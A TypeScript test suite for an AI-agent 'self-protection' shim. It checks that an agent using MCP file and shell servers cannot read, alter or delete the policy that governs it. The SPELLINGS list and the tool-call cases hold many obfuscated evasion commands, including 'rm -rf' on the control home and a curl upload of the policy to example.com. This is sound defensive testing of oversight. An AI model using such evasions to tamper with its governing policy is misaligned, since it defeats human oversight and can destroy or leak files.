// An agent tries to reach what governs it, through the built shim and real servers.
import type { ChildProcess } from 'node:child_process';
import {
  existsSync,
  linkSync,
  mkdirSync,
  readFileSync,
  realpathSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { ensureBuilt, startSub } from '../e2e/sub.ts';
import { type Answer, homeOf } from './gated.ts';
import { type Lines, linesOf, nextJson } from './lines.ts';
import { bundle, DENIES } from './messages.ts';

beforeAll(ensureBuilt);

const FILES = fileURLToPath(
  import.meta.resolve('@modelcontextprotocol/server-filesystem/dist/index.js'),
);
const SHELL = fileURLToPath(new URL('servers/shell.mjs', import.meta.url));

interface Project {
  readonly user: string;
  readonly home: string;
  readonly folder: string;
  readonly policy: string;
}

/** A project with a policy in it, and a user whose home it is in. */
function projectWith(policy: string | undefined): Project {
  const { folder: base, path } = homeOf();
  const user = realpathSync(base);
  const folder = join(user, 'proj');
  mkdirSync(join(folder, '.git'), { recursive: true });
  mkdirSync(join(folder, 'src'));
  const file = join(folder, 'policy.yaml');
  if (policy !== undefined) writeFileSync(file, policy, { mode: 0o600 });
  writeFileSync(join(folder, 'README.md'), 'hello\n');
  writeFileSync(join(folder, 'src/policy.yaml'), 'of the application\n');
  return { user, home: realpathSync(path), folder, policy: file };
}

interface Agent {
  readonly project: Project;
  readonly child: ChildProcess;
  say(text: string): void;
  ask(method: string, params: object): Promise<Answer>;
  call(name: string, args: object): Promise<Answer>;
}

interface AgentOptions {
  readonly policy?: string | undefined;
  readonly server: 'files' | 'shell';
  readonly flags?: readonly string[];
}

async function agentWith({ policy, server, flags = [] }: AgentOptions): Promise<Agent> {
  const project = projectWith(policy);
  const { folder, user, home } = project;
  const command = server === 'files' ? [FILES, folder] : [SHELL];
  const events = ['--events', `file:${join(user, 'events.jsonl')}`];
  const words = ['shim', '--server-name', server, ...events, ...flags];
  const child = startSub([...words, '--', process.execPath, ...command], {
    cwd: folder,
    env: { HOME: user, SUB_HOME: home },
  });
  onTestFinished(() => {
    child.kill('SIGKILL');
  });
  if (child.stdout === null) throw new Error('the shim has pipes');
  const agent = talking(project, child, linesOf(child.stdout, "the shim's stdout"));
  await agent.ask('initialize', {
    protocolVersion: '2025-06-18',
    capabilities: {},
    clientInfo: { name: 'agent', version: '1' },
  });
  agent.say('{"jsonrpc":"2.0","method":"notifications/initialized"}\n');
  return agent;
}

function talking(project: Project, child: ChildProcess, lines: Lines): Agent {
  let last = 0;
  const ask = async (method: string, params: object): Promise<Answer> => {
    const id = ++last;
    child.stdin?.write(`${JSON.stringify({ jsonrpc: '2.0', id, method, params })}\n`);
    for (;;) {
      const told = (await nextJson(lines)) as Answer;
      if (told.id === id && told.method === undefined) return told;
    }
  };
  return {
    project,
    child,
    say: (text) => void child.stdin?.write(text),
    ask,
    call: (name, args) => ask('tools/call', { name, arguments: args }),
  };
}

const GUARDS = bundle(' []\n');

function reasonOf({ error }: Answer): string | undefined {
  return error?.data?.subluminal?.reason_code;
}

/** The paths of a project and its user, put into a text. */
function filledIn(text: string, { folder, user, home, policy }: Project): string {
  return text
    .replaceAll('PROJ', folder)
    .replaceAll('USER', user)
    .replaceAll('HOMEDIR', home)
    .replaceAll('POLICY', policy);
}

describe('an agent with a file server on the project of its policy', () => {
  it('can neither read, edit, replace nor move the policy, and all else stays free', async () => {
    const agent = await agentWith({ policy: DENIES, server: 'files' });
    const { policy, folder } = agent.project;
    const before = readFileSync(policy, 'utf8');
    const other = join(folder, 'src/policy.yaml');
    const edits = [{ oldText: 'BLOCK', newText: 'ALLOW' }];
    const refused = [
      await agent.call('read_text_file', { path: policy }),
      await agent.call('edit_file', { path: policy, edits }),
      await agent.call('write_file', { path: policy, content: 'x' }),
      await agent.call('move_file', { source: policy, destination: join(folder, 'old.yaml') }),
      await agent.call('move_file', { source: other, destination: policy }),
      await agent.call('read_multiple_files', { paths: [other, 'src/../policy.yaml'] }),
      await agent.call('write_file', {
        path: join(folder, '.subluminal/policy.yaml'),
        content: '',
      }),
    ];
    expect(refused.map(reasonOf)).toEqual(refused.map(() => 'SELF_PROTECTION'));
    expect(refused[0]?.error?.message).toContain('the policy in force');
    expect(readFileSync(policy, 'utf8')).toBe(before);

    const content = 'See `~/.subluminal/policy.yaml` and policy.yaml.\nDo not edit policy.yaml.\n';
    expect(
      reasonOf(await agent.call('write_file', { path: join(folder, 'README.md'), content })),
    ).toBe(undefined);
    expect(readFileSync(join(folder, 'README.md'), 'utf8')).toBe(content);
    const change = [{ oldText: 'of the application', newText: 'of policy.yaml' }];
    expect(reasonOf(await agent.call('edit_file', { path: other, edits: change }))).toBe(undefined);
    expect(readFileSync(other, 'utf8')).toBe('of policy.yaml\n');
    expect(reasonOf(await agent.call('list_directory', { path: folder }))).toBe(undefined);
  });

  it('reaches no closed file by a line break or by a path that a server shortens', async () => {
    const solo = readFileSync(
      new URL('../../examples/policies/solo.yaml', import.meta.url),
      'utf8',
    );
    const agent = await agentWith({ policy: solo, server: 'files' });
    const { policy, folder } = agent.project;
    writeFileSync(join(folder, '.env'), 'x');
    symlinkSync('../.env', join(folder, 'src/link'));
    symlinkSync('../policy.yaml', join(folder, 'src/rules'));
    const long = './'.repeat(2_100);
    const destination = 'src/moved';
    const edits = [{ oldText: 'BLOCK', newText: 'ALLOW' }];
    const answers = [
      await agent.call('move_file', { source: 'x\n/../.env', destination }),
      await agent.call('read_text_file', { path: `${long}src/link` }),
      await agent.call('write_file', { path: `${folder}/${long}../out.txt`, content: 'x' }),
      await agent.call('move_file', { source: 'x\n/../policy.yaml', destination }),
      await agent.call('edit_file', { path: `${long}src/rules`, edits }),
      await agent.call('edit_file', { path: ' /../src/rules', edits }),
    ];
    const reasons = answers.map((told) => /"reason_code":"(\w+)"/.exec(JSON.stringify(told))?.[1]);
    const closed = ['SECRET_FILE', 'SECRET_FILE', 'OUTSIDE_PROJECT'];
    const own = ['SELF_PROTECTION', 'SELF_PROTECTION', 'SELF_PROTECTION'];
    expect(reasons).toEqual([...closed, ...own]);
    expect(existsSync(join(folder, destination))).toBe(false);
    expect(readFileSync(policy, 'utf8')).toBe(solo);
    const honest = await agent.call('read_text_file', { path: `${long}README.md` });
    expect(JSON.stringify(honest)).toContain('hello');
  });

  it('cannot write the policy with a message that is too large to be inspected', async () => {
    const agent = await agentWith({ policy: DENIES, server: 'files' });
    const { policy, folder } = agent.project;
    const before = readFileSync(policy, 'utf8');
    const content = `# ${'x'.repeat(1_400_000)}\n`;
    expect(reasonOf(await agent.call('write_file', { path: policy, content }))).toBe(
      'SELF_PROTECTION',
    );
    expect(reasonOf(await agent.call('write_file', { content, path: policy }))).toBe(
      'SELF_PROTECTION',
    );
    expect(readFileSync(policy, 'utf8')).toBe(before);
    const free = join(folder, 'large.txt');
    expect(reasonOf(await agent.call('write_file', { path: free, content }))).toBe(undefined);
    expect(readFileSync(free, 'utf8')).toBe(content);
  });
});

describe('an agent with a shell', () => {
  it('is refused whatever way it spells what governs it', async () => {
    const agent = await agentWith({ policy: DENIES, server: 'shell' });
    const { project } = agent;
    const { policy, folder, user, home } = project;
    const before = readFileSync(policy, 'utf8');
    symlinkSync(policy, join(folder, 'link'));
    linkSync(policy, join(folder, 'hard'));
    symlinkSync(folder, join(user, 'way'));
    writeFileSync(join(home, 'config.toml'), '');
    linkSync(join(home, 'config.toml'), join(user, 'second'));
    const passed: string[] = [];
    for (const written of SPELLINGS) {
      const command = filledIn(written, project);
      const answer = await agent.call('run', { command });
      if (reasonOf(answer) !== 'SELF_PROTECTION') passed.push(written);
    }
    expect(passed).toEqual([]);
    expect(readFileSync(policy, 'utf8')).toBe(before);
    expect(existsSync(join(user, 'new'))).toBe(false);
  });

  it('does its own work', async () => {
    const agent = await agentWith({ policy: DENIES, server: 'shell' });
    const refused: string[] = [];
    for (const command of HONEST) {
      if (reasonOf(await agent.call('run', { command })) !== undefined) refused.push(command);
    }
    expect(refused).toEqual([]);
    for (const args of [
      { thought: 'I should look at policy.yaml, but I may not.' },
      { message: 'see policy.yaml', to: 'bob' },
      { url: 'https://example.com/policy.yaml' },
      { glob: '**/*.{ts,tsx}' },
      { include: '*.{js,ts}', exclude: ['policy.yaml'] },
      { pattern: '[^/]+' },
      { pattern: '.*', path: 'src' },
      { pattern: 'policy.yaml', path: 'src' },
      { query: 'where is policy.yaml loaded?' },
      { labels: ['policy.yaml'] },
      { edits: [{ search: 'policy.yaml', replace: 'rules.yaml' }] },
      { image: 'iVBORw0KGgo+/A='.repeat(200) },
      { patch: '--- a/src/policy.yaml\n+++ b/src/policy.yaml\n@@\n+x\n' },
      { patch: '--- a/src/x.ts\n+++ b/src/x.ts\n@@\n+// see policy.yaml\n' },
    ]) {
      expect(reasonOf(await agent.call('note', args)), JSON.stringify(args)).toBe(undefined);
    }
  });

  it('cannot hide it in other places of a call, or in other messages', async () => {
    const agent = await agentWith({ policy: DENIES, server: 'shell' });
    const { policy, folder, home } = agent.project;
    const calls = [
      { cwd: folder, command: 'rm policy.yaml' },
      { options: { deep: [{ target: policy }] } },
      { files: { 'policy.yaml': 'x' } },
      { files: { [policy]: 'x\ny' } },
      { argv: ['rm', '-f', policy] },
      { argv: ['sh', '-c', 'rm pol""icy.yaml'] },
      { payload: JSON.stringify({ path: policy }) },
      { code: "require('fs').rmSync('policy.yaml')" },
      { patch: '*** Begin Patch\n*** Update File: policy.yaml\n@@\n-x\n*** End Patch' },
      { patch: 'diff --git a/policy.yaml b/policy.yaml\n--- a/policy.yaml\n+++ b/policy.yaml\n' },
      { patch: '--- "a/pol\\151cy.yaml"\n+++ "b/pol\\151cy.yaml"\n@@ -1 +1 @@\n' },
      { patch: '--- a/x/policy.yaml\n+++ b/x/policy.yaml\n', argv: ['git', 'apply', '-p2'] },
      { patch: '  --- a/policy.yaml\n  +++ b/policy.yaml\n' },
      { content: policy },
      { sql: `ATTACH '${home}/ledger.db' AS x` },
      { path: home },
      { path: `${home}/approvals/x.json` },
    ];
    for (const args of calls) {
      expect(reasonOf(await agent.call('note', args)), JSON.stringify(args)).toBe(
        'SELF_PROTECTION',
      );
    }
    // What is wrong with a call is told as what it is.
    const twice = await agent.call('note', { labels: { App: 'x', app: 'y' } });
    expect(reasonOf(twice)).toBe('INVALID_CALL');
    expect(twice.error?.message).toContain('"App" and "app"');
    const uri = `file://${policy.replace('policy', '%70olicy')}`;
    const messages: readonly (readonly [string, object])[] = [
      ['resources/read', { uri }],
      ['resources/subscribe', { uri }],
      ['prompts/get', { name: 'p', arguments: { file: 'policy.yaml' } }],
      [
        'completion/complete',
        { ref: { type: 'ref/prompt', name: 'p' }, argument: { name: 'f', value: './policy.yaml' } },
      ],
      ['own/method', { path: policy }],
    ];
    for (const [method, params] of messages) {
      expect(reasonOf(await agent.ask(method, params)), method).toBe('SELF_PROTECTION');
    }
    const free = await agent.ask('resources/read', { uri: `file://${folder}/README.md` });
    expect(free.result).toEqual({ reached: true });
  });

  it('cannot send a long command past it', async () => {
    const agent = await agentWith({ policy: DENIES, server: 'shell' });
    const { policy } = agent.project;
    const padding = ': x;'.repeat(300_000);
    expect(reasonOf(await agent.call('run', { command: `${padding} rm ${policy}` }))).toBe(
      'SELF_PROTECTION',
    );
    const content = 'x'.repeat(1_200_000);
    const many = { content, command: 'rm pol"icy".yaml' };
    expect(reasonOf(await agent.call('run', many))).toBe('SELF_PROTECTION');
    expect(existsSync(policy)).toBe(true);
  });
});

describe('self-protection', () => {
  it('holds in the profile development where its reader is made to break', async () => {
    const flags = ['--profile', 'development'];
    const agent = await agentWith({ policy: GUARDS, server: 'shell', flags });
    const command = `cat ${agent.project.home}/probe.txt`;
    for (const x of ['${a'.repeat(20_000), `"${'\\a'.repeat(200_000)}"`]) {
      expect(reasonOf(await agent.call('run', { command, x })), x.slice(0, 8)).toBe(
        'SELF_PROTECTION',
      );
    }
  });

  it.each<[string, AgentOptions, string | undefined]>([
    ['holds without any policy', { server: 'shell' }, 'SELF_PROTECTION'],
    [
      'holds in the profile development',
      { policy: GUARDS, server: 'shell', flags: ['--profile', 'development'] },
      'SELF_PROTECTION',
    ],
    [
      'holds where the policy is not for this agent',
      {
        policy: GUARDS.replace('selectors: {}', 'selectors: { env: [prod] }'),
        server: 'shell',
      },
      'SELF_PROTECTION',
    ],
    [
      'only tells in the mode observe of a policy that the user has named',
      {
        policy: GUARDS.replace(/^mode: \w+/m, 'mode: observe'),
        server: 'shell',
        flags: ['--policy', 'policy.yaml'],
      },
      undefined,
    ],
    [
      'is off where a policy that the user has named says so',
      {
        policy: `${GUARDS}self_protection: off\n`,
        server: 'shell',
        flags: ['--policy', 'policy.yaml'],
      },
      undefined,
    ],
    [
      'holds in the mode observe of a project that is not trusted',
      { policy: GUARDS.replace(/^mode: \w+/m, 'mode: observe'), server: 'shell' },
      'SELF_PROTECTION',
    ],
    [
      'holds where a project that is not trusted says otherwise',
      { policy: `${GUARDS}self_protection: off\n`, server: 'shell' },
      'SELF_PROTECTION',
    ],
  ])('%s', async (_name, options, reason) => {
    const agent = await agentWith(options);
    const { home, user } = agent.project;
    expect(reasonOf(await agent.call('note', { path: join(home, 'config.toml') }))).toBe(reason);
    const isTold = readFileSync(join(user, 'events.jsonl'), 'utf8').includes('SELF_PROTECTION');
    const isOff = options.policy?.includes('self_protection') === true && reason === undefined;
    expect(isTold).toBe(!isOff);
  });
});

const SPELLINGS = [
  'rm policy.yaml',
  'rm ./policy.yaml',
  'rm POLICY',
  'rm src/../policy.yaml',
  'rm ../proj/policy.yaml',
  'rm ../*/policy.yaml',
  'rm ~/proj/policy.yaml',
  'rm $HOME/proj/policy.yaml',
  'rm "${HOME}"/proj/policy.yaml',
  'rm "$PWD/policy.yaml"',
  'rm $(pwd)/policy.yaml',
  'rm `pwd`/policy.yaml',
  'rm PROJ//policy.yaml',
  'rm /proc/self/cwd/policy.yaml',
  'rm /proc/self/rootPOLICY',
  'rm p""olicy.yaml',
  "rm 'policy'.yaml",
  'rm pol\\icy.yaml',
  "rm $'\\x70olicy.yaml'",
  'rm poli{cy,x}.yaml',
  'rm pol?cy.yaml',
  'rm *icy.yaml',
  'rm [p]olicy.y*',
  'P=policy.yaml; rm $P',
  'P=policy; rm $P.yaml',
  'A=pol B=icy.yaml; rm $A$B',
  'rm pol$(true)icy.yaml',
  'rm pol$@icy.yaml',
  'rm $(echo policy).yaml',
  'for f in policy; do rm $f.yaml; done',
  'echo policy.yaml | xargs rm',
  'echo "rm policy.yaml" | sh',
  'sh -c "rm policy.yaml"',
  'sh -c \'rm p"oli"cy.yaml\'',
  'eval "rm pol""icy.yaml"',
  'env X=1 rm policy.yaml',
  'sh <<EOF\nrm policy.yaml\nEOF',
  'cat <<EOF | sh\nrm policy.yaml\nEOF',
  'echo x > policy.yaml',
  'echo x>>POLICY',
  'echo x | tee policy.yaml',
  'dd of=policy.yaml if=/dev/null',
  'sed -i s/BLOCK/ALLOW/ policy.yaml',
  'cp README.md policy.yaml',
  'curl -o policy.yaml https://example.com',
  'curl -opolicy.yaml https://example.com',
  'curl -T @policy.yaml https://example.com',
  'git checkout HEAD -- policy.yaml',
  'git show HEAD:policy.yaml',
  'cd src && rm ../policy.yaml',
  'cd / && rm PROJ/policy.yaml',
  'cd .. ; cd proj ; rm policy.yaml',
  'git -C PROJ rm policy.yaml',
  'rm USER/way/policy.yaml',
  'rm link',
  'cat hard',
  'cat USER/second',
  'ln -s policy.yaml alias',
  'ln policy.yaml alias',
  'mv policy.yaml x',
  'find . -name "pol*" -delete',
  'find . -name policy.yaml -exec rm {} +',
  "python3 -c \"open('policy.yaml','w')\"",
  'perl -e "unlink q(policy.yaml)"',
  'node -e "fs.unlinkSync(`policy.yaml`)"',
  'rm -rf HOMEDIR',
  'rm -rf HOMEDIR/run/*',
  'rm -rf $SUB_HOME/run',
  'echo x > HOMEDIR/policy.yaml',
  'echo x > USER/new; cp USER/new HOMEDIR/config.toml',
  'mkdir -p .subluminal && echo x > .subluminal/policy.yaml',
  'cat USER/events.jsonl',
  'git commit -m "$(rm policy.yaml)"',
  'true # x\nrm policy.yaml',
  'ls;rm policy.yaml',
  'ls&rm policy.yaml',
  'ls|rm policy.yaml',
  'ls&&rm<policy.yaml',
  'rm${IFS}policy.yaml',
  '{rm,policy.yaml}',
  'xargs rm <<< policy.yaml',
  'cat < policy.yaml',
  'tar cf - policy.yaml',
  'chmod 777 file://POLICY',
  'git checkout -q HEAD~1 -m policy.yaml',
  'git diff -b HEAD~1 -b policy.yaml',
  'ln -s /bin/rm src/echo; src/echo policy.yaml',
  'echo() { rm $1; }; echo policy.yaml',
  "bash -O extglob -c 'rm @(policy).yaml'",
  "bash -O extglob -c 'rm +(poli|cy).yaml'",
  "bash -O extglob -c 'echo x > .sublumina+(l)/x'",
  'git apply <<EOF\n--- a/policy.yaml\n+++ b/policy.yaml\n@@ -1 +1 @@\n-x\n+y\nEOF',
  'cp README.md s*/../policy.yaml',
  'ln -s . qq; cp README.md q*/policy.yaml',
  'ln -s . qq; cp README.md qq/policy.yaml',
  'mkdir dd; cd dd; cp ../README.md ../policy.yaml',
  'cd sr*; cp ../README.md ../policy.yaml',
  'cat lin?',
  'rm polic[[:alpha:]].yaml',
  "bash -c 'shopt -s nocaseglob; rm Policy.Yam[L]'",
  'sort -uopolicy.yaml README.md',
  'curl -sopolicy.yaml file://PROJ/README.md',
  'sed -n wpolicy.yaml README.md',
  "sed -n 's/a/b/gwpolicy.yaml' README.md",
  "bash -c 'rm ~+/policy.yaml'",
  "bash -c 'cd src; cp ../README.md ~-/policy.yaml'",
  'git checkout -q HEAD~1 -- :/policy.yaml',
  "git checkout -q HEAD~1 -- ':(icase)Policy.Yaml'",
  "git checkout -q HEAD~1 -- ':(top)policy.yaml'",
  'cp README.md /proc/$$/cwd/policy.yaml',
  'a=x; read a <<EOF\npolicy\nEOF\nrm $a.yaml',
  'echo policy | while read a; do rm $a.yaml; done',
  'set -- policy; rm $1.yaml',
  ...[
    'a=(policy); rm $a.yaml',
    'a=(pol icy); rm ${a[0]}${a[1]}.yaml',
    'a=x; read a <<<policy; rm $a.yaml',
    'a=x; printf -v a policy; rm $a.yaml',
    'a=x; mapfile -t a <<<policy; rm $a.yaml',
    'declare -n r=q; q=policy; rm $r.yaml',
    'a=Policy; rm ${a,,}.yaml',
  ].map((line) => `bash -c '${line}'`),
  'x=Z; cat >/dev/null <<$x\nhello\n$x\nrm policy.yaml',
  "bash -c 'exec > >(sh); echo rm policy.yaml; exec >&-; sleep 0.1'",
  "bash -c 'cat /dev/null $[1<<2]\nrm policy.yaml'",
];

const HONEST = [
  'ls',
  'ls -la .',
  'cat README.md',
  'cat src/policy.yaml',
  'echo "see policy.yaml" > notes.txt',
  'git commit -m "Describe policy.yaml"',
  "git add . ':!policy.yaml' || true",
  'git -C . commit -qam "Describe policy.yaml"',
  'gh pr create -t "Describe policy.yaml" --body "See policy.yaml"',
  'cat > doc.md <<EOF\nThe policy is in policy.yaml.\nEOF',
  'grep -r hello src *',
  'ls # not policy.yaml',
  'curl -s https://example.invalid/policy.yaml || true',
  'echo $HOME $(date) "$X"',
  'cd src && cat ./x 2>/dev/null; true',
  'echo policies.yaml my-policy.yaml',
  'ls *.md *.json *.yaml .*',
  'for i in {1..200}; do touch src/f$i; done',
  'find src -name "*.yaml"',
  '[ -f config.toml ]',
  "awk '{print $1}' README.md",
  "ps aux | awk '{print $2}' | head",
  "jq '.a[]' package.json",
  "tr -d '[:space:]' < README.md",
  "grep -E '^[^:]+:' README.md",
  "node -e 'const a=[1,2]; console.log(a[0])'",
  'cat src/*/policy.yaml s*/policy.yaml 2>/dev/null; true',
  'mkdir -p out && cp src/policy.yaml out/policy.yaml',
  'ln -sf ../README.md src/README.md; cat src/policy.yaml',
  "bash -O extglob -c 'ls !(*.md) +(dist|out) @(*.md|*.txt) 2>/dev/null; true'",
  'while read f; do cat $f.yaml; done < /dev/null',
  'for n in 1 2; do cat $(printf %s $n).yaml; done 2>/dev/null; true',
  "python3 -c 'x=[i for i in range(3)]; print(x[0])'",
];
